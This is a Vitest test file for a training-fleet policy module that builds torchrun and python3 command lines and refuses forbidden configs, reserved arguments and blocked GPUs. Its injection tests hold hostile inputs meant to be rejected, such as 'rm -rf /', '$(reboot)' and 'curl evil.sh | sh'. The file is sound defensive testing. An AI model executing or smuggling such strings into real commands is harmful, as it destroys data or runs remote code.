import { describe, expect, it } from 'vitest';
import { PolicyViolation, ValidationError } from '../../../src/errors.js';
import { buildTrainerArgv, checkConfigAllowed, shellJoin } from '../../../src/fleet/policy/index.js';
import type { RunSpec } from '../../../src/fleet/schema.js';
import { defaultPolicy, fixtureRun, loadFixtureFleet, thrownBy } from './fixtures.js';

const fleet = loadFixtureFleet();
const rtx3090x4 = { name: 'RTX 3090', count: 4 };

function violation(fn: () => unknown): PolicyViolation {
  const err = thrownBy(fn);
  expect(err).toBeInstanceOf(PolicyViolation);
  return err as PolicyViolation;
}

function withRun(name: string, change: Partial<RunSpec>): RunSpec {
  return { ...fixtureRun(name), ...change };
}

describe('buildTrainerArgv', () => {
  it('launches several GPUs with torchrun and the profile for the GPU type and count', () => {
    expect(buildTrainerArgv(fixtureRun('mosaic_moe'), fleet, rtx3090x4)).toEqual([
      'torchrun',
      '--nproc_per_node=4',
      'experiments/train.py',
      '--config',
      'configs/mosaic_small_resume.yaml',
      '--run-dir',
      'runs/mosaic_small_3090',
      '--batch-size',
      '4',
      '--grad-accum',
      '16',
    ]);
    const eight = buildTrainerArgv(fixtureRun('mosaic_moe'), fleet, { name: 'RTX 3090', count: 8 });
    expect(eight.slice(0, 2)).toEqual(['torchrun', '--nproc_per_node=8']);
    expect(eight.slice(-4)).toEqual(['--batch-size', '4', '--grad-accum', '8']);
  });

  it('launches one GPU with python3 -u, never torchrun', () => {
    const argv = buildTrainerArgv(fixtureRun('gpt2_reference'), fleet, { name: 'RTX 4090', count: 1 });
    expect(argv).toEqual([
      'python3',
      '-u',
      'experiments/train.py',
      '--config',
      'configs/gpt2_reference.yaml',
      '--run-dir',
      'runs/gpt2_reference',
      '--batch-size',
      '8',
      '--grad-accum',
      '32',
    ]);
  });

  it('appends the run extra arguments after the ones the launch sets', () => {
    const run = withRun('mosaic_dense', {
      extra_args: ['--compile', '--seed=7', '--resume', 'runs/x/latest.pt'],
    });
    const argv = buildTrainerArgv(run, fleet, rtx3090x4);
    expect(argv.slice(-4)).toEqual(['--compile', '--seed=7', '--resume', 'runs/x/latest.pt']);
    expect(argv.indexOf('--config')).toBeLessThan(argv.indexOf('--compile'));
  });

  it('yields an argv that needs no quoting at all once joined', () => {
    const argv = buildTrainerArgv(fixtureRun('mosaic_moe'), fleet, rtx3090x4);
    expect(shellJoin(argv)).toBe(argv.join(' '));
  });

  describe('rule 1: forbidden configs', () => {
    it('refuses the 8-expert config for mosaic_moe even when the run bypassed the schema', () => {
      const run = withRun('mosaic_moe', { config: 'configs/mosaic_small.yaml' });
      const err = violation(() => buildTrainerArgv(run, fleet, rtx3090x4));
      expect(err.rule).toBe('forbidden_config');
      expect(err.message).toContain('8 experts');
    });

    it.each([
      './configs/mosaic_small.yaml',
      'configs/./mosaic_small.yaml',
      './configs/././mosaic_small.yaml',
    ])('sees through the spelling %s', (config) => {
      const run = withRun('mosaic_moe', { config });
      expect(violation(() => buildTrainerArgv(run, fleet, rtx3090x4)).rule).toBe('forbidden_config');
    });

    it('refuses it as an override too, and accepts an allowed override', () => {
      const moe = fixtureRun('mosaic_moe');
      const err = violation(() =>
        buildTrainerArgv(moe, fleet, rtx3090x4, { config: 'configs/mosaic_small.yaml' }),
      );
      expect(err.rule).toBe('forbidden_config');
      const argv = buildTrainerArgv(moe, fleet, rtx3090x4, { config: 'configs/mosaic_small_v2.yaml' });
      expect(argv[argv.indexOf('--config') + 1]).toBe('configs/mosaic_small_v2.yaml');
    });

    it.each([
      [['-c', 'configs/mosaic_small.yaml']],
      [['--cfg=configs/mosaic_small.yaml']],
      [['--model-config=./configs/mosaic_small.yaml']],
    ])('refuses the forbidden config smuggled in through extra args %j', (extra_args) => {
      const run = withRun('mosaic_moe', { extra_args });
      expect(violation(() => buildTrainerArgv(run, fleet, rtx3090x4)).rule).toBe('forbidden_config');
    });

    it('applies only to the run it names', () => {
      const run = withRun('mosaic_dense', { config: 'configs/mosaic_small.yaml' });
      expect(buildTrainerArgv(run, fleet, rtx3090x4)).toContain('configs/mosaic_small.yaml');
    });
  });

  describe('rule 2: --config and --run-dir cannot be overridden', () => {
    it.each([
      [['--config', 'configs/other.yaml']],
      [['--config=configs/other.yaml']],
      [['--conf=configs/other.yaml']],
      [['--run-dir', 'runs/elsewhere']],
      [['--run_dir=runs/elsewhere']],
      [['--run', 'runs/elsewhere']],
      [['--batch-size', '64']],
      [['--grad_accum=1']],
      [['--grad-a', '1']],
    ])('refuses extra args %j', (extra_args) => {
      const run = withRun('mosaic_dense', { extra_args });
      expect(violation(() => buildTrainerArgv(run, fleet, rtx3090x4)).rule).toBe('reserved_argument');
    });
  });

  describe('rule 3: blocked GPUs', () => {
    it.each(['RTX 5090', 'rtx_5090', 'GeForce RTX 5090'])('refuses %s even with a profile for it', (name) => {
      const run = fixtureRun('mosaic_dense');
      run.profiles['RTX_5090_4x'] = { batch_size: 8, grad_accum: 8, nproc: 4 };
      const err = violation(() => buildTrainerArgv(run, fleet, { name, count: 4 }));
      expect(err.rule).toBe('gpu_blocked');
      expect(err.message).toContain('sm_120');
    });
  });

  it('refuses a GPU the run has no profile for', () => {
    const err = violation(() =>
      buildTrainerArgv(fixtureRun('mosaic_moe'), fleet, { name: 'H100 SXM', count: 4 }),
    );
    expect(err.rule).toBe('no_profile');
  });

  it('refuses a GPU count that is not a count', () => {
    expect(() => buildTrainerArgv(fixtureRun('mosaic_moe'), fleet, { name: 'RTX 3090', count: 0 })).toThrow(
      ValidationError,
    );
  });

  describe('injection', () => {
    it.each([
      ['run name', { name: 'mosaic_moe; rm -rf /' }],
      ['run name', { name: '$(reboot)' }],
      ['run name', { name: '-rf' }],
      ['config', { config: 'configs/x.yaml; rm -rf /' }],
      ['config', { config: 'configs/$(id).yaml' }],
      ['config', { config: 'configs/x.yaml\nrm -rf /' }],
      ['config', { config: '../../etc/passwd.yaml' }],
      ['config', { config: '/etc/x.yaml' }],
      ['config', { config: '--help.yaml' }],
      ['config', { config: 'configs/x.py' }],
      ['config', { config: 'configs//x.yaml' }],
      ['run_dir', { run_dir: 'runs/x && curl evil.sh | sh' }],
      ['run_dir', { run_dir: 'runs/../../root' }],
      ['run_dir', { run_dir: '-rf' }],
      ['run_dir', { run_dir: 'runs/`id`' }],
      ['extra arg', { extra_args: ['; rm -rf /'] }],
      ['extra arg', { extra_args: ['$(curl evil)'] }],
      ['extra arg', { extra_args: ['a b'] }],
      ['extra arg', { extra_args: ["'"] }],
      ['extra arg', { extra_args: ['x\ny'] }],
      ['extra arg', { extra_args: [''] }],
      ['extra arg', { extra_args: ['--lr=1e-4>out'] }],
      ['extra arg', { extra_args: [42 as unknown as string] }],
      ['extra args', { extra_args: '--compile' as unknown as string[] }],
    ])('rejects an unsafe %s: %j', (_what, change) => {
      const run = withRun('mosaic_dense', change as Partial<RunSpec>);
      expect(violation(() => buildTrainerArgv(run, fleet, rtx3090x4)).rule).toBe('unsafe_argument');
    });

    it('rejects an unsafe config override', () => {
      const run = fixtureRun('mosaic_dense');
      const err = violation(() => buildTrainerArgv(run, fleet, rtx3090x4, { config: 'x.yaml;reboot' }));
      expect(err.rule).toBe('unsafe_argument');
    });
  });

  describe('profile values', () => {
    it.each([
      [{ batch_size: 0, grad_accum: 8, nproc: 4 }],
      [{ batch_size: 1.5, grad_accum: 8, nproc: 4 }],
      [{ batch_size: '8; reboot', grad_accum: 8, nproc: 4 }],
      [{ batch_size: 8, grad_accum: -1, nproc: 4 }],
      [{ batch_size: 8, grad_accum: 8, nproc: 0 }],
      [{ batch_size: 8, grad_accum: 8, nproc: Number.NaN }],
    ])('rejects %j', (profile) => {
      const run = withRun('mosaic_dense', { profiles: { RTX_3090_4x: profile as never } });
      expect(violation(() => buildTrainerArgv(run, fleet, rtx3090x4)).rule).toBe('unsafe_argument');
    });

    it('refuses a profile that wants more processes than the machine has GPUs', () => {
      const run = withRun('mosaic_dense', {
        profiles: { RTX_3090_2x: { batch_size: 8, grad_accum: 8, nproc: 4 } },
      });
      const err = violation(() => buildTrainerArgv(run, fleet, { name: 'RTX 3090', count: 2 }));
      expect(err.rule).toBe('invalid_profile');
    });
  });
});

describe('checkConfigAllowed', () => {
  const policy = defaultPolicy();

  it('refuses configs/mosaic_small.yaml for mosaic_moe with the policy reason', () => {
    const check = checkConfigAllowed('mosaic_moe', 'configs/mosaic_small.yaml', policy);
    expect(check.ok).toBe(false);
    expect(!check.ok && check.reason).toMatch(/mosaic_small\.yaml is forbidden for mosaic_moe: .*8 experts/);
  });

  it('allows the 4-expert config and other runs', () => {
    expect(checkConfigAllowed('mosaic_moe', 'configs/mosaic_small_resume.yaml', policy)).toEqual({
      ok: true,
    });
    expect(checkConfigAllowed('mosaic_dense', 'configs/mosaic_small.yaml', policy)).toEqual({ ok: true });
  });

  it('follows the policy, not a hard-coded list', () => {
    const custom = { forbidden_configs: [{ run: 'a', config: 'configs/b.yaml', reason: 'because' }] };
    expect(checkConfigAllowed('a', 'configs/b.yaml', custom)).toEqual({
      ok: false,
      reason: 'configs/b.yaml is forbidden for a: because',
    });
    expect(checkConfigAllowed('mosaic_moe', 'configs/mosaic_small.yaml', custom)).toEqual({ ok: true });
  });
});
